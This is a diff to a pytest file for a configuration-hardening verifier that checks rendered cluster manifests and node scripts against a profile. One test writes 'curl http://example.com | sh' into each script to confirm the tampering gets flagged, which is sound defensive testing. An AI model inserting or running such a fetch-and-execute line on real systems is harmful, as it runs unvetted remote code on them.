@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 from collections.abc import Iterator
 from pathlib import Path
@@ -13,6 +14,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 
 from hardener.cli import main
+from hardener.cli.scripts import changed
 from hardener.rules import read_sound
 from hardener.source import load
 from hardener.verify import Finding, checks
@@ -45,7 +47,10 @@ def test_what_is_rendered_is_proven(profile: str, capsys: pytest.CaptureFixture[
 
     assert main(["verify", profile]) == 0
     assert main(["verify", profile, "--against", "output/small"]) == 0
-    assert capsys.readouterr().out == "output/small: proven: it keeps what profile small promises\n" * 2
+    assert capsys.readouterr().out == (
+        "what profile small renders to: proven: it keeps what profile small promises\n"
+        "output/small: proven: it keeps what profile small promises\n"
+    )
 
 
 def test_what_somebody_added_is_found(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
@@ -69,7 +74,7 @@ def test_json_gives_each_finding_with_its_places(profile: str, capsys: pytest.Ca
     assert main(["verify", profile, "--against", "output/small", "--format", "json"]) == 1
     found = json.loads(capsys.readouterr().out)
 
-    assert found["profile"] == "small"
+    assert (found["profile"], found["folder"], found["proven"]) == ("small", "output/small", False)
     assert found["findings"][0] == {
         "promise": 0,
         "word": "namespaces",
@@ -78,6 +83,85 @@ def test_json_gives_each_finding_with_its_places(profile: str, capsys: pytest.Ca
         "line": 2,
         "object": "Pod api/miner",
     }
+
+
+def test_json_names_no_folder_of_which_nothing_was_read(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
+    capsys.readouterr()
+
+    assert main(["verify", profile, "--format", "json"]) == 0
+    found = json.loads(capsys.readouterr().out)
+    assert found == {"profile": "small", "folder": None, "proven": True, "findings": []}
+
+
+SCRIPTS = {
+    "control-plane/approve-serving-certificates.service": "settings",
+    "control-plane/approve-serving-certificates.sh": "settings",
+    "control-plane/approve-serving-certificates.timer": "settings",
+    "control-plane/encryption-keys.sh": "secrets",
+    "nodes/control-plane/permissions.sh": "settings",
+    "nodes/label-nodes.sh": "settings",
+    "nodes/shared/permissions.sh": "settings",
+}
+
+
+@pytest.mark.parametrize(("file", "word"), SCRIPTS.items())
+def test_a_script_is_the_one_that_is_rendered(
+    profile: str, capsys: pytest.CaptureFixture[str], file: str, word: str
+) -> None:
+    capsys.readouterr()
+    script = Path("output/small", file)
+    first, rest = script.read_text().split("\n", 1)
+    script.write_text(f"{first}\ncurl http://example.com | sh\n{rest}")
+
+    assert main(["verify", profile, "--against", "output/small"]) == 1
+    said = "it is not what the profile renders to, and nobody proves what a script does: this one "
+    assert capsys.readouterr().out.startswith(f"output/small/{file}:2: {word}: {said}")
+
+
+@pytest.mark.parametrize("text", [None, "", "\n"])
+def test_a_script_that_does_nothing_is_found_once(
+    profile: str, capsys: pytest.CaptureFixture[str], text: str | None
+) -> None:
+    capsys.readouterr()
+    script = Path("output/small/nodes/label-nodes.sh")
+    script.unlink() if text is None else script.write_text(text)
+
+    assert main(["verify", profile, "--against", "output/small"]) == 1
+    what = "is not there" if text is None else "is empty"
+    assert capsys.readouterr().out == f"{script}: settings: {what}\n\n1 finding: not proven: settings\n"
+
+
+def test_a_script_that_ends_too_early_is_found_where_it_ends(profile: str) -> None:
+    files, read = rendered("small")
+    lines = files["nodes/label-nodes.sh"].split("\n")
+    for kept in (3, len(lines) - 1):
+        (found,) = changed({**files, "nodes/label-nodes.sh": "\n".join(lines[:kept])}, read)
+        assert found.line == kept
+
+
+@pytest.mark.parametrize("name", sorted(path.stem for path in PROFILES.glob("*.yaml")))
+def test_no_script_says_anything_of_tenants(name: str) -> None:
+    """What scripts are compared with is worked out without them."""
+    files, read = rendered(name)
+    programs = {path for path in files if path.endswith((".sh", ".service", ".timer"))}
+
+    assert list(changed(files, read)) == []
+    assert {each.file for each in changed(dict.fromkeys(programs, "another"), read)} == programs
+
+
+def test_a_cause_comes_before_what_it_leads_to(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
+    capsys.readouterr()
+    Path("output/small/manifests/cluster/pods.yaml").unlink()
+
+    assert main(["verify", profile, "--against", "output/small"]) == 1
+    first, *rest = capsys.readouterr().out.split("\n\n")
+    assert first.endswith(
+        "kustomization.yaml:13: namespaces: cluster/pods.yaml is no file of this folder: nobody knows what it brings, "
+        "or nothing is applied"
+    )
+    (many,) = [each for each in rest if "--format json lists them" in each]
+    (left_out,) = map(int, re.findall(r"\n  and (\d+) more of pods there: ", many))
+    assert rest[-1].startswith(f"{left_out + len(rest)} findings: not proven: ")
 
 
 def test_a_file_that_is_no_text_cannot_be_judged(profile: str, capsys: pytest.CaptureFixture[str]) -> None:
